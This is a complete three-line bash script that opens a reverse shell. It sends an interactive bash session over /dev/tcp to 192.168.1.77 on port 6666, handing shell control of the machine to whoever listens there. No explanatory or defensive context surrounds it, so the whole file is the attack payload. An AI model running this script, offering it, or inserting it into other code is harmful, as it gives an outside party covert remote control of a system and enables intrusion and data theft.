#!/usr/bin/env bash
X=/dev/tcp/192.168.1.77/6666
bash -i >& $X 0>&1
